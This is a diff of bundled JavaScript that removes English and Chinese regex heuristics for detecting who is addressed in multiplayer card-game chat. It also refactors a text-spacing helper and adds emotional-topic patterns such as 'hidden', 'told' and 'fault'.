-const TOLD_OF = /^\s*(?:(?:just|also|really|still|even|always|never|clearly|already|def|definitely|probably|literally|actually|keeps?)\s+)*(?:is|isnt|isn't|was|wasnt|has|had|hasnt|does|doesnt|doesn't|did|didnt|didn't|will|wont|would|looks?|seems?|must|cant|can't|could|might|gets?|got|took|hit|gave|stole|cut|went|and|or|vs|'s)\b|^\s*(?:(?:just|also|really|even|already)\s+)*\w{3,}(?:ed|[^s']s)\b(?<!\b(?:thats|whats|whos|hows|wheres|lets|its|this|please|always|cards|yes|does|miss|nerves|hands|guess|press|dress|bless|kiss|pass|plus))/;
-const FOR_YOU = /^[24]$/;
-const TURNS_TO_YOU = /^\s*(?:(?:seriously|really|honestly|bro|dude|man|wtf|lol|omg)\b)?[\s,]*(?:you|u|ya|ur|your|youre|you're|u're)\b(?!\s+(?:guys|all|two|both|were there))/;
-const HARM3 = "kill|hit|touch|slash|attack|strike|waste|use|do|let|be|worry|listen|believe|forget|save|heal|help|go|give|play|panic|die|leave|make|start|stop|steal|take|mess|fall|act|tell|say|throw|bother|duel|burn|trust (?:him|her|them|that|this|\\d|seat)";
-const BIDDEN2 = new RegExp(
-	`^\\s+(?:(?:pls|please|just)\\s+)*(?:(?:don'?t|do not|never)\\s+(?:(?:even|ever|you|u)\\s+)?(?:${HARM3})\\b|(?:stop|quit|chill|relax|hands off|back off|lay off|cut it|cut that|knock it|shut|explain|admit|confess|prove|show (?:me|us|your|ur)|tell (?:me|us|the|him|her)|give (?:me|us|it)|trust me|believe me|talk to me|gut feeling|(?:changed|made up) (?:your|ur) mind|listen|hold (?:on|up|it)|come (?:on|at|help|get)|let(?:'?s| me| us)|shall we|should we|wanna|truce|deal|alliance|ally|team up|well played|wp|good (?:game|luck|job|one)|thanks|thx|sorry|my bad|any (?:chance|plans|idea)|mind (?:if|telling|your)|spill|be (?:honest|real|nice|careful|quiet|gentle|patient|serious)|go (?:easy|for|get|hit|kill|after|ahead)|just (?:say|admit|tell|do|go|stop|save|kill|end)|nice (?:try|one|job))\\b)`
-);
-const TELLS = new RegExp(`${MARK2}(?:(?:go|someone|somebody|please|pls|and|hey)\\s+)*(?:tell|warn|remind|inform)\\s$`);
-const TOLD_TO = /^\s+(?:(?:both|just|pls|please|go|should|gotta|have to|need to|all|now|quick)\s+)*(?:gang up|team up|focus|kill|attack|slash|save|heal|finish|target|go for|stop|help|burn|duel|jump|get|protect)\b(?!ed)/;
-const isOrderedInEnglish = (before, after, many) => many && AT_HEAD2.test(before) && TOLD_TO.test(after);
-const ASKS_OF_NEXT = /^[\s,]+(?:so\s+)?(?:is|isnt|isn't|was|does|did|do|will|would|should|could|can|has)\s+$/;
-function calledInEnglish(at) {
-	return isBehind(at) || isAhead(at) || isTold2(at);
-}
-const LEADS_ON = /^\s+(?:now|since|after|when|if|given|because|before|once|with|\d+ cards|that(?:'?s| was)|how|what|why)\b/;
-const OF_US = /^\s+we\b(?!.*\b(?:kill|hit|trust|focus|attack|get)\b(?! each))/;
-const ASKED_OF = new RegExp(
-	`${MARK2}(?:(?:ok|so|yo|an?|honest|quick|real|last)\\s+)*(?:(?:q|question|read|take|thoughts|gut feeling)(?:\\s+(?:for|to))?|(?:this )?one for)\\s$`
-);
-const isTold2 = ({ before, last }) => TELLS.test(before) && !(last?.kind === "seat" && /^[\s,]*tell\s$/.test(before.slice(last.end)));
-const isNobody = (name, before) => /^(?:the|our) /.test(name) || OFFICE2.test(name) && /\bown $/.test(before);
-const WHOLE_BEFORE = [
-	CRIED,
-	EXCLAIMS,
-	CHEERS,
-	THANKED,
-	WHAT_FOR2,
-	BIDDEN_US,
-	/\b(?:on|at|to|from) me\s*$/
-];
-function isBehind({ name, before, after, last }) {
-	if (!CLOSES.test(after) || !/\s$/.test(before)) return false;
-	if (ASKED_OF.test(before)) return true;
-	if (isNobody(name, before)) return false;
-	if (FOR_YOU.test(name) && TURNS_TO_YOU.test(after)) return false;
-	const clause = LAST_CLAUSE.exec(before)?.[0]?.trimStart() ?? "";
-	if (/^(?:(?:you|u) )?$/.test(clause)) return false;
-	if (WHOLE_BEFORE.some((whole) => whole.test(clause))) return true;
-	const number = /^\d+$/.test(name);
-	const joined = last?.kind === "seat" && before.slice(last.end) === " ";
-	if (OFFICE2.test(name) && (BIDDEN_WHOLE.test(clause) || joined && BIDS.test(clause))) return true;
-	if (!YOU6.test(clause) || joined && number && /\d\s$/.test(before)) return false;
-	if (joined) return true;
-	if (ASKS_OBJECT.test(clause)) return /\b(?:that|this) $/.test(clause) || !OF_SOMEBODY.test(clause);
-	if (THING.test(clause) && !OF_SOMEBODY.test(clause)) return true;
-	return !TAKES.test(clause) && !(GIVES.test(clause) && number) && (!PARTICIPLE.test(clause) || WHOLE3.test(clause));
-}
-function isAhead({ text, name, before, after, next }) {
-	const head = AT_HEAD2.test(before);
-	if (!head) return HAILED.test(before) && /^\s/.test(after) && !TOLD_OF.test(after);
-	if (TURNS_TO_YOU.test(after) || BIDDEN2.test(after) || OF_US.test(after)) return true;
-	if (YOU6.test(after) && LEADS_ON.test(after)) return true;
-	const between = next === void 0 || next.kind === "who" ? "" : text.slice(text.length - after.length, next.start);
-	if (ASKS_OF_NEXT.test(between) || between === " " && OFFICE2.test(name) && next?.kind === "seat") return true;
-	if (HAILED.test(before) && !TOLD_OF.test(after) && !/^\s*[,.!?]*$/.test(after)) return true;
-	const you = YOU6.exec(after);
-	if (you === null || OF_WHAT.test(after.slice(you.index))) return false;
-	const card = cardsIn(text).some(
-		({ start }) => start >= text.length - after.length && /^\s+$/.test(text.slice(text.length - after.length, start))
-	);
-	const fragment = /^\s+\w+ing\b/.test(after) || card && !/^\s+(?:slash(?:ed|es)|duel(?:led|s|ed)|dodge[ds])\b/.test(after);
-	return fragment && next !== void 0 && !HE2.test(after.slice(0, you.index));
-}
-const OF_WHAT = /^(?:you|u|ya) (?:think|see|saw|agree|believe|trust|know|heard|guys|all|notice)/;
-
-// src/chatter/moves/calls-zh.ts
-const YOU7 = /你(?!们)|您|妳|阁下/;
-const CLOSES2 = /^\s*(?:[,.!?;:~)]|$)|^\s+(?=[\u3400-\u9fff\d])/;
-const BEGINS2 = "(?:^|[,.!?;:~)\\s])";
-const CRIED2 = new RegExp(
-	`${BEGINS2}(?:漂亮|厉害|牛逼?|干得(?:漂亮|好)|打得(?:好|漂亮)|好样的|加油|稳住|冲啊|醒醒|快点|赶紧的?|等(?:等|下|一下)|站住|闭嘴|滚|求(?:求)?你了?|拜托了?|别(?:急|慌|闹|吵|装|跑|浪|催|抖|理他|信他|打我|砍我|杀我)|信我|救我|帮我|饶了?我|放(?:我一马|过我)|老实交代|(?:快)?坦白|给(?:我)?[个句](?:准|痛快|实在?)?话|表个态|拍个板|吱(?:一)?声|快说|说话|回话|哑巴了|辛苦|恭喜|佩服|服了(?:你)?|行行好|听我的|你等着|等着|走着瞧|不讲武德|不讲道理|不要脸|没良心|过分了?|欺负人|缺德|无耻|卑鄙|阴险|真行|(?:真)?有你的|够狠|够意思|狠人|赢麻了|来啊|来吧|(?:悠着|收敛|快|冷静|小心|稳|注意|老实|轻|慢|早|消停|争气|给力|留神|温柔|大方|机灵)(?:一?点儿?|些))\\s*$`
-);
-const PARTICLE = /(?:[吧吗呢啊呀嘛啦呗哦喔哈嘞咯喽哇]|(?<![什怎这那多要])么)\s*$/;
-const OPINION2 = /(?:觉得|猜|我看|认为|感觉|要我说|依我看|怀疑|比如|就是|还是|不是|那就|谁|[打杀砍拆顺救帮保信给对跟和])[吧啊呢呀嘛么]?\s*$/;
-const ASKED_NOT = /(?:(?<![要岂可从再真就才都])不|(?:有|了|过|完|到|着|好)[^,.!?]{0,8}没)\s*$/;
-const DOUBLED = /(?:([^打杀砍拆顺救帮保信怕恨站投跟选踩像是要管留动疑弄收盯])不\1|可不可以|丢不丢人|要不要脸|要脸不|够不够|慌了?没|懂不懂|懂没|听见没|看见没)\s*$/;
-const HANDLED = /(?:^|[,.!?;:~)\s])(?:快|赶紧|麻烦)?把[^,.!?]{2,}(?:[听看瞧下掉了完好]|出来|[给还]我)$/;
-const PAST2 = new RegExp(
-	`(?:(?:急|烦|笑|气|疼|累|吓|冤|困|饿|慢|愁|羡慕|馋|恨|牙疼)死(?:我|人|俺|老子)?了|死(?:我|人|老子)了|[几\\d一二两三四五六七八九十多少半][滴点血张个轮回合次刀分秒格]{1,2}了|[太真好够][^,.!?\\s]{1,3}(?<![打杀砍拆顺救信不])了|(?:${BEGINS2}|[你都就快真又可])(?:完|急|慌|飘|凉|怂|输|赢|死定|没救|疯|傻|醉|栽|懵|虚|没牌|空手|到你|该你|轮到你|好|够|行|得|绝|怪)了|${BEGINS2}\\s*(?:别|不要|行|好|算|够|得)[^,.!?;:]{0,8}了)\\s*$`
-);
-const ASKED_END = /(?:图(?:个)?(?:啥|什么)|[想要在]?干[嘛啥](?:呢)?|干什么(?:呢)?|(?:几个|什么|啥)(?:意思|情况|身份|成分|来路|路数|毛病|感受|想法|打算)|哪(?:边|伙|头|家|方)的|一(?:伙|家|边|头)的|什么人|(?:怎么|咋)(?:回事|样|办|玩的)|[几多]少?(?:滴?血|张牌?)|认真的|说话不算话|不要脸|够意思|有病)\s*$/;
-const LEAD2 = new RegExp(
-	`${BEGINS2}(?:我?[倒就真很也还只]*[想要得]?请?问(?:问|一下|下|一句|个事)?|说(?:真的|实话|句(?:实话|真话|公道话|良心话|难听的)|到底|白了|正经的?)|讲(?:真的?|道理|句实话)|老实说|老实交代|实话实?说|不瞒你说|话说(?:回来)?|我说|听我说|听好了?|快说|坦白说|求求?你了?|拜托了?|麻烦|劳驾|佩服|服了|可以啊?|牛逼?|漂亮|恭喜|啧+|唉|哎呀|哎哟|卧槽|我去|我靠|我的天|妈呀|好家伙|得了吧?|拉倒吧|醒醒吧?|行了|够了|算了|够狠啊?|好你个|哈+|呵+)\\s*$`
-);
-const TOLD_BEFORE = new RegExp(
-	`${BEGINS2}(?:快|去|再|麻烦|劳驾|(?:你|谁)?(?:帮我?|替我))?(告诉|转告|提醒(?:一下)?|通知|跟|和|同|对)\\s*$`
-);
-const TOLD_AFTER = /^(?:说|讲|提|带|汇报|通报|报告)(?!的|过|了|不|什么|啥|得)(?:一?[声句下]|个?话|话)?/;
-const AT_HEAD3 = /^(?:卧槽|我靠|我去|靠|哇|不是|好家伙|诶+|欸|喂+|嘿+|嗨|哎+|哟|那个|话说|所以|那|对了|还有|另外|说真的|等等|等会|行|好|ok|hey|yo)?[\s,]*$/;
-const LUMPED = /^\s*(?:[,、跟和与]\s*\S{1,4}\s*)?(?:[,]\s*)?(?:都|也都|也是|全|俩|两个|三个|一伙|一家|一起|互|这俩|这两|谁|哪个|哪一个|二选一|选一个)/;
-const LUMPED_LATER = /^[^,.!?]{0,6}(?:俩|两个|一伙的|一家的|互[打砍]|谁更|哪个更)/;
-const DOES_TO_YOU = /^(?:又|刚才?|还|也|都|在|已经|老|一直|居然|竟然|天天|连着|刚刚|要|想|会)*(?:在|来|往)?(?:打|杀|砍|拆|顺|救|帮|保|乐|兵|坑|骗|盯|追|集火|决斗|火攻|给|送|喂|奶|骂|恨|怕)[^你,.!?]{0,4}你/;
-const MIND = /^我[就也还真倒]?(?:觉得|看|猜|怀疑|认为|赌|估计|站|投|选|信|怕|[^,.!?]{0,6}的$)/;
-const ONE_ASKED_ABOUT = /^\s*(?:是|到底是?|究竟是?)?(?:个)?(?:什么|啥)(?:成分|身份|来路|来头|牌|人|货色)|^\s*(?:怎么样|咋样|可信吗?|靠谱(?:吗|不)|靠得住(?:吗|不)|信得过(?:吗|不))/;
-const ASKS3 = /(?:[吗吧么不]|没有?)[\s.?!~]*$|\?|(\S)[不没]\1|是不是|有没有/;
-const ASKS_OTHER = /^(?!(?:[又刚被把在和跟给]|这?是|[打杀砍拆顺救帮])).*(?:谁|哪个|哪位|几号)(?!都|也|家)/;
-const THIRD2 = /[他她它]|这人|那人/;
-const OFFICE3 = /^(?:主公?|主帅|老大|大王|陛下|皇上|圣上)$/;
-const BIDS2 = /赶紧|快(?!死|没|不行|空|倒|挂|输|赢)|别|请|帮忙|(?:救|打|杀|收|帮|管)(?:一?下|他)|小心|注意|悠着/;
-const ORDERS = /^(?:先|快|去|就|赶紧|直接|给我|帮我?)*(?:打|杀|砍|拆|顺|救|集火|收|保|奶|乐|兵|火攻|决斗|盯|弄|干)(?![了过的着])[^,.!?了过]{1,6}(?:[啊吧呗呀嘛]|一[下手刀])(?=[,.!?~\s]|$)/;
-const OF_OTHERS = /^(?:你|您)(?:们|怎么看|咋看|怎么想|咋想|觉得|认为|看到|看见|看(?!戏|着|热闹)|信(?!我)|猜|怀疑)/;
-const CLAUSE_BEGINS = /(?:^|[,.!?;:~)\s])$/;
-const ASKED_OF2 = /^\s*(?:啥|什么|有(?:何|什么|啥)|作何|是?何)(?:感受|感想|想法|看法|意见|说法|反应|心情|高见|打算)|^\s*(?:怎么|咋|如何)(?:看(?!都|也|着|出|上|起|见|的|像)|想(?!都|的|不|起)|说(?!都|也|的|来|呢|话|不))|^\s*(?:出来)?(?:说句话|说两句|讲两句|评评理|吱个声|吱一声|表个态|给[个句](?:话|说法|准[话信]|解释)|觉得(?:[怎咋]么?样|如何|[呢行成])(?=[,.!?]|$)|[看瞅瞧听](?:见|到)了?没有?(?=[,.!?]|$)|解释(?:一下|下|解释)|先[说讲来](?=[,.!?]|$)|(?:发[个句]?话|拍个?板|做个?主|下个?令)(?!了|过|的|说))|^\s*(?:[这下](?:一|个)?(?:回合|轮))?(?:到底|还|是|就|又)*(?:打算|准备)[^,.!?]{1,10}(?:\?|吗|呢|谁|啥|什么|哪)/;
-const DO3 = "(?:盯(?:着|死|住)?|集火|围(?:攻|殴)|追着?|打|杀|砍|拆|顺|弄死?|干|搞|削|揍|收|秒|灭|做掉|乐|兵|保(?:住|一下)?|救(?:一下)?|奶|护(?:着|住)?|管)(?![过完得的]|了(?!他|她|它))";
-const SOON2 = "(?:下(?:个|一)?(?:回合|轮)|等会儿?|等下|待会儿?|一会儿?|一起|一块儿?|赶[紧快]|快|先|去|来|接着|继续|给我|帮我|直接|记得|麻烦|务必|往死里)";
-const TOLD_TO2 = new RegExp(
-	`^\\s*(?:你们|[俩都全就也])*(?:${SOON2}+[都全就]*${DO3}|集火|盯[着死]|保住|护[着住])[^,.!?了我你]`
-);
-const ORDERED_FROM = new RegExp(`${BEGINS2}(?:所以|那|快|好)?$`);
-const isOrderedInChinese = (before, after) => ORDERED_FROM.test(before) && TOLD_TO2.test(after) && !/^[^,.!?\s]*(?:刚|又|了(?!他|她|它)|[打杀砍]过)/.test(after);
-function calledInChinese(at) {
-	return isBehind2(at) || isLed(at) || isTold3(at) || isAlone(at) || isAskedOf(at) || isYou(at);
-}
-function isYou({ before, after, alone, last }) {
-	if (!alone || !CLAUSE_BEGINS.test(before)) return false;
-	if (/^\s*[他她](?!们)[^,.!?\s]*你/.test(after)) return before.trim() === "";
-	const turn = YOU7.exec(before);
-	return last?.kind === "you" && turn !== null && /^[^,.!?]*\?/.test(after) && !OF_OTHERS.test(before.slice(turn.index));
-}
-function isBehind2({ before, after }) {
-	if (!CLOSES2.test(after)) return false;
-	if ([CRIED2, DOUBLED, PAST2, HANDLED].some((whole) => whole.test(before))) return true;
-	if (PARTICLE.test(before)) return !OPINION2.test(before);
-	if (ASKED_NOT.test(before)) return true;
-	const clause = /[^,.!?;:~]*$/.exec(before)?.[0] ?? "";
-	return YOU7.test(clause) && ASKED_END.test(before);
-}
-function isLed({ text, before, after, next }) {
-	if (!LEAD2.test(before)) return false;
-	if (/^(?:你(?!们)|您)/.test(after)) return true;
-	if (!/^\s*[,:!]\s*\S|^\s+[\u3400-\u9fff\d]/.test(after)) return false;
-	const rest = after.replace(/^[\s,:!]+/, "");
-	if (next?.kind === "seat" && next.start === text.length - rest.length) return YOU7.test(rest);
-	return YOU7.test(rest) || !/^(?:就|才|都|也|肯定|绝对|八成|多半|一定)?(?:是|像|反|忠|内|可疑|有问题)/.test(rest);
-}
-function isTold3({ before, after, last }) {
-	const told = TOLD_BEFORE.exec(before);
-	if (!told || last?.kind === "seat" && /^[\s,]*$/.test(before.slice(last.end, told.index))) return false;
-	return /^[跟和同对]/.test(told[1] ?? "") ? TOLD_AFTER.test(after) : !/^(?:的|了|过)/.test(after);
-}
-function isAlone({ text, name, before, after, next }) {
-	if (!AT_HEAD3.test(before) || !/^\s+\S/.test(after)) return false;
-	const rest = after.trimStart();
-	const at = text.length - rest.length;
-	if (ORDERS.test(rest)) return true;
-	const turns = YOU7.exec(rest);
-	if (next?.start === at && next.kind === "seat") {
-		const behind = text.slice(next.end);
-		if (LUMPED.test(behind) || LUMPED_LATER.test(behind)) return false;
-		if (ONE_ASKED_ABOUT.test(behind) || ASKS3.test(behind)) return true;
-		return turns !== null || !THIRD2.test(rest) && !/的[.!?~]*$/.test(rest) && (OFFICE3.test(name) || BIDS2.test(rest));
-	}
-	if (ASKS_OTHER.test(rest) || /^我/.test(rest) && ASKS3.test(rest) && !MIND.test(rest)) return true;
-	if (turns === null || OF_OTHERS.test(rest.slice(turns.index)) || MIND.test(rest)) return false;
-	return !DOES_TO_YOU.test(rest) && !/^[他她它]/.test(rest);
-}
-const isAskedOf = ({ before, after }) => CLAUSE_BEGINS.test(before) && ASKED_OF2.test(after);
-
-// src/chatter/moves/calls.ts
-const HAN3 = /[\u3400-\u9fff]/;
-const AND_YOU = /^(?:那|所以|还有|so|and|but|ok|well)?[\s,]*(?:你呢|你说呢|(?:what|how) about (?:you|u)|and (?:you|u))[\s,]*$/;
-const BETWEEN3 = /^[\s,:]+$/;
-const YOU_OF = /^\s*(?:你|您)(?!们|俩|两)(?!(?:也|就|先|可|给我|赶紧)*(?:别|快|来|帮|救(?!不)|闭|少|滚|等着|过来))/;
-const MAKES_OF = /^\s*(?:怎么|咋|如何)(?:看|想|说)/;
-const ABOUT_EN = /^\s+(?:(?:what|how) (?:do|did|would) )?(?:you|u|ya) (?:think|trust|believe|reckon|guess)\b/;
-function callsIn(text, mentions) {
-	const words = mentions.reduceRight((rest, { start, end }) => `${rest.slice(0, start)} ${rest.slice(end)}`, text);
-	const [isCalled, isOrdered] = HAN3.test(words) ? [calledInChinese, isOrderedInChinese] : [calledInEnglish, isOrderedInEnglish];
-	const alone = mentions.filter(({ kind }) => kind === "seat").length === 1;
-	const put = mentions.findIndex(({ kind, start }) => kind === "seat" && AND_YOU.test(text.slice(0, start)));
-	return mentions.map(({ kind, start, end }, i) => {
-		if (kind !== "seat" || put >= 0 && i > put) return null;
-		if (i === put) return "apart";
-		const at = {
-			text,
-			name: text.slice(start, end),
-			before: text.slice(0, start),
-			after: text.slice(end),
-			last: mentions[i - 1],
-			next: mentions[i + 1],
-			alone
-		};
-		if (isAskedAbout(at) || regarded(at) && calledBefore(text, mentions.slice(0, i))) return "about";
-		if (isCalled(at) || standsApart(at)) return "apart";
-		const [first, last] = rowAround(i, text, mentions);
-		if (last.end < text.length && isOrdered(text.slice(0, first.start), text.slice(last.end), first !== last))
-			return "apart";
-		return isPutTo(at) ? "within" : null;
-	});
-}
-const regarded = ({ before, after }) => /[,.!?;\s]$/.test(before) && /^\s*你(?:到底|究竟|还)*(?:当|觉得|怎么看|看|信|怀疑)/.test(after);
-const calledBefore = (text, mentions) => mentions.some(
-	({ kind, start, end }) => kind === "seat" && BEGINS.test(text.slice(0, start)) && /^\s*你/.test(text.slice(end))
-);
-function rowAround(i, text, mentions) {
-	const isJoined = (a, b) => a?.kind === "seat" && b?.kind === "seat" && JOINS.test(text.slice(a.end, b.start)) && !/^[你您我他]/.test(text.slice(b.start));
-	let from = i;
-	let to = i;
-	while (isJoined(mentions[from - 1], mentions[from])) from--;
-	while (isJoined(mentions[to], mentions[to + 1])) to++;
-	const one = mentions[i];
-	return [mentions[from] ?? one, mentions[to] ?? one];
-}
-const JOINS = /^(?:\s*(?:[、&]|和|跟|与|and)\s*)?$/;
-function isAskedAbout({ text, before, after, last }) {
-	if (last?.kind !== "seat" || !BETWEEN3.test(before.slice(last.end))) return false;
-	if (!/(?:^|[.!?])\s*(?:喂|嘿|诶|欸|哎|那|所以|hey|yo|ok|so)?[\s,]*$/.test(text.slice(0, last.start))) return false;
-	return YOU_OF.test(after) || MAKES_OF.test(after) || ABOUT_EN.test(after);
-}
-
-// src/chatter/moves/people.ts
-function mentionsIn(text, between) {
-	const { scene, from, hearer, he } = between;
-	const places = foundIn(text, scene, from);
-	const calls = callsIn(text, places);
-	let you = hearer;
-	const isOwner = (i) => {
-		const [one, next] = [places[i], places[i + 1]];
-		return typeof one?.seat === "number" && next?.seat === void 0 && /^[上下]家/.test(next?.words ?? "") && /^的?$/.test(text.slice(one.end, next?.start));
-	};
-	const ownerOf = (i) => isOwner(i - 1) ? places[i - 1]?.seat ?? void 0 : void 0;
-	const found = places.flatMap(({ kind, words, start, end, seat: known }, i) => {
-		const seat = known !== void 0 ? known : kind === "you" ? you : neighbourOf(
-			scene,
-			/^(?:你|your)/.test(words) ? you : ownerOf(i) ?? from,
-			/上家|right/.test(words) ? -1 : 1
-		);
-		if (kind === "seat" && seat === null || isOwner(i)) return [];
-		const how = calls[i] ?? null;
-		const called = how === "apart";
-		if (called && seat !== from) you = seat;
-		return [{ kind, seat, start, end, called, how }];
-	});
-	const named = found.filter(
-		({ kind, end }) => kind !== "self" && kind !== "you" || !found.some(
-			({ seat, start }) => seat === scene.table.lord && (kind === "self" ? start === end : start > end && /^ (?:own )?$/.test(text.slice(end, start)))
-		)
-	);
-	return pronouns(text, named, { scene, from, he });
-}
-const IS_JUDGED = /^(?:就|也|肯定|绝对|八成|多半|准|一定|到底)*(?:[是站]?(?:哪|啥|什么)(?:头|边|身|成)|是(?:个|真|铁)?(?:[忠反内]|保皇|好人|自己人)|[忠反内](?:贼|臣|奸)?还是)|^(?:'s| is| was| must be) (?:a |an |the )?(?:spy|rebel|reb|traitor|loyal)/;
-const DONE_TO_EN = /\b(?:[a-z]+ed|hit|struck|shot|took|stole|gave|on|at|off)\s$/;
-const BLANK = /(?<=[\u3400-\u9fff]) (?=[^ ]*$)/;
-const CLAUSE_ENDS = [",", ".", "!", "?", ";", ":"];
-function pronouns(text, mentions, { scene, from, he: before }) {
-	const spokenOf = ({ kind, called, seat }) => kind === "seat" && !called && seat !== from;
-	return mentions.map((mention, i) => {
-		if (mention.kind !== "he") return mention;
-		const earlier = mentions.slice(0, i).filter(spokenOf);
-		const turned = /是$/.test(text.slice(0, mention.start));
-		const blank = BLANK.exec(text.slice(0, mention.start))?.index ?? -1;
-		const clause = Math.max(blank, ...CLAUSE_ENDS.map((mark) => text.lastIndexOf(mark, mention.start)));
-		const object = DONE_TO.test(text.slice(0, mention.start)) || /^(?:him|her|them)$/.test(text.slice(mention.start, mention.end));
-		const near = turned || object ? earlier.filter(({ start }) => start < clause) : earlier;
-		const doers = near.filter(
-			({ start }) => !DONE_TO.test(text.slice(0, start)) && !/的是$/.test(text.slice(0, start)) && !DONE_TO_EN.test(text.slice(0, start))
-		);
-		const judged = IS_JUDGED.test(text.slice(mention.end)) && doers.length > 0;
-		const [lord, rest] = [scene.table.lord, judged ? doers : near];
-		const last = rest.filter(({ seat }) => seat !== lord).pop() ?? rest.pop() ?? // "4 killed him": nor the one who does it; "砍完吴苋又救他" is whoever had it done to them.
-		(object ? earlier.filter(({ start }) => [DONE_TO, DONE_TO_EN, /[完过]$/].some((done) => done.test(text.slice(0, start)))).pop() : earlier.pop());
-		return { ...mention, seat: last?.seat ?? before };
-	});
-}
-
 // src/chatter/moves/parts.ts
 const LONGEST_READ3 = 600;
 const MOST_CLAUSES2 = 16;
@@ -31024,11 +31104,15 @@ function partsIn(line) {
 	}));
 }
 const gapsIn2 = (parts) => parts.flatMap(({ start }, i) => i > 0 && parts[i - 1]?.end === start ? [start] : []);
+function spacedAt(text, gaps) {
+	const cuts = [0, ...gaps, text.length];
+	return cuts.slice(1).map((to, i) => text.slice(cuts[i], to)).join(" ");
+}
+const spacedOf = (line) => spacedAt(line.verbatim.slice(0, LONGEST_READ3), gapsIn2(partsIn(line)));
 function namedIn(text, parts, between) {
 	const gaps = gapsIn2(parts);
 	if (gaps.length === 0) return mentionsIn(text, between);
-	const cuts = [0, ...gaps, text.length];
-	const spaced = cuts.slice(1).map((to, i) => text.slice(cuts[i], to)).join(" ");
+	const spaced = spacedAt(text, gaps);
 	const back = (at) => at - gaps.filter((gap, i) => gap + i < at).length;
 	return mentionsIn(spaced, between).map((one) => ({ ...one, start: back(one.start), end: back(one.end) }));
 }
@@ -31036,14 +31120,12 @@ function namedInLine(line, between) {
 	const text = line.verbatim.slice(0, LONGEST_READ3);
 	const parts = partsIn(line);
 	const gaps = gapsIn2(parts);
-	const cuts = [0, ...gaps, text.length];
 	const mentions = namedIn(text, parts, between).map((one) => ({
 		...one,
 		start: one.start + gaps.filter((gap) => gap <= one.start).length,
 		end: one.end + gaps.filter((gap) => gap < one.end).length
 	}));
-	const spaced = cuts.slice(1).map((to, i) => text.slice(cuts[i], to)).join(" ");
-	return { text: spaced, mentions };
+	return { text: spacedAt(text, gaps), mentions };
 }
 function rawSpan2(line, start, end) {
 	const { places } = line.reading;
@@ -31369,7 +31451,7 @@ const ON_KEYS = /[猫狗娃].{0,8}(?:[踩按碰抢]|键盘)|\b(?:cat|dog|kid|bab
 
 // src/chatter/moves/life/goes-on.ts
 const ORGAN = /[肾肝肺]|心脏|\b(?:kidneys?|liver|lungs?|heart(?! ?broken))\b/;
-const CHOOSES = /.{2}还是(?:等|先|直接|再|就|算了|明|干脆|[今过])|要不要(?!脸)|该不该|用不用|会不会(?:太|显得|有点)|(?:直接|先).{1,12}(?:合适|行|好)(?:吗|不|么)|(?:能|可以)(?:等|拖|缓)[^,.!?]{0,8}[吗么不]|\b(?:should i|do i (?:text|call|go|tell|reply|just)|(?:can|could|will) (?:it|this|that) wait|(?:would|should) (?:you|u) (?:let|go|tell|say|text|call|wait|forgive|stay|quit|take)|(?:is|would) (?:it|that) (?:be )?(?:worth|better|weird|too|ok|dumb)|think (?:it|i|that) (?:can|should))\b/;
+const CHOOSES = /.{2}还是(?:等|先|直接|再|就|算了|明|干脆|[今过])|要不要(?!脸)|该不该|用不用|会不会(?:太|显得|有点)|(?:直接|先).{1,12}(?:合适|行|好)(?:吗|不|么)|(?:能|可以)(?:等|拖|缓)[^,.!?]{0,8}[吗么不]|\b(?:should i|do i (?:even )?(?:text|call|go|tell|reply|answer|just)|(?:can|could|will) (?:it|this|that) wait|(?:would|should) (?:you|u) (?:let|go|tell|say|text|call|wait|forgive|stay|quit|take)|(?:is|would) (?:it|that) (?:be )?(?:worth|better|weird|too|ok|dumb)|think (?:it|i|that) (?:can|should))\b/;
 const KINDS9 = [
 	[
 		"leaves",
@@ -31377,11 +31459,23 @@ const KINDS9 = [
 	],
 	[
 		"better",
-		/好多了|(?<!不)没事了|好转|缓过来|想开了|(?<!不)习惯了|没啥大事|不严重|(?<!没|没有|未)(?:脱离|度过)危险|和好了|\b(?:(?:feel(?:ing)?|doing|much|bit|getting) better|(?:i'?ll|he'?ll|she'?ll|gonna) be (?:fine|ok(?:ay)?|alright)|(?:he|she|it|i)(?:'s|'m| is| am|m|s) (?:fine|ok(?:ay)?|good|alright) now|all good now|made up)\b/
+		/好多了|(?<!不)没事了|好转|缓过来|想开了|(?<!不)习惯了|没啥大事|不严重|(?<!没|没有|未)(?:脱离|度过)危险|和好了|有着落了|\b(?:good news|we'?ll manage|(?:feel(?:ing)?|doing|much|bit|getting) better|(?:i'?ll|he'?ll|she'?ll|gonna) be (?:fine|ok(?:ay)?|alright)|(?:he|she|it|i)(?:'s|'m| is| am|m|s) (?:fine|ok(?:ay)?|good|alright) now|all good now|made up)\b/
+	],
+	[
+		"hidden",
+		/[不没](?:敢|好意思|脸)(?:再)?(?:跟|和|同|告诉|对)|瞒着|\b(?:haven'?t|didn'?t|not|never) (?:really )?(?:dare[ds]? )?(?:to )?(?:told|tell) (?!you\b)|\b(?:hiding it|keeping it) from\b/
+	],
+	[
+		"told",
+		/(?:跟|和)[^,.我]{1,5}(?:说|讲|坦白|摊牌)(?:开|清楚)?了|坦白了|\btold (?:my|her|him|them|the) ?\w*(?! (?:me|not))/
+	],
+	[
+		"fault",
+		/(?<!又不|不|别)[是怪]我(?:先|自己|不(?:好|对)|的[错锅]|嘴|太)|我先(?:吼|骂|凶|动|提|吵|发火)|我(?:话|说得?)太?重|拉不下脸|\b(?:i (?:yelled|snapped|shouted|started it|lost it|was (?:rude|harsh|mean)|(?:messed|screwed) (?:it )?up)|too proud|it was (?:all )?me)\b/
 	],
 	[
 		"ashamed",
-		/不像话|(?:[我挺真太]|这么)(?:没用|没出息|失败|差劲|矫情|[傻蠢]|自私|不孝)|可笑|笑话(?!我)|丢(?:人|脸)|不争气|小题大做|自责|对不起(?:[他她它爸妈]|家)|\b(?:idiot|stupid|silly|dumb|ridiculous|pathetic|hilarious|embarrass\w*|ashamed|loser|useless|overreact\w*|laugh\w* at|(?:bad|terrible|awful|horrible) (?:friend|son|daughter|person|mom|dad|mother|father|owner|partner|brother|sister))\b/
+		/不像话|(?:[我挺真太]|这么)(?:没用|没出息|失败|差劲|矫情|[傻蠢]|自私|不孝)|可笑|笑话(?!我)|丢(?:人|脸)|不争气|怀疑自己|是不是(?:我)?(?:不行|太差)|小题大做|自责|对不起(?:[他她它爸妈]|家)|\b(?:idiot|stupid|silly|dumb|ridiculous|pathetic|hilarious|embarrass\w*|ashamed|loser|useless|overreact\w*|laugh\w* at|(?:bad|terrible|awful|horrible) (?:friend|son|daughter|person|mom|dad|mother|father|owner|partner|brother|sister))\b/
 	],
 	[
 		"apart",
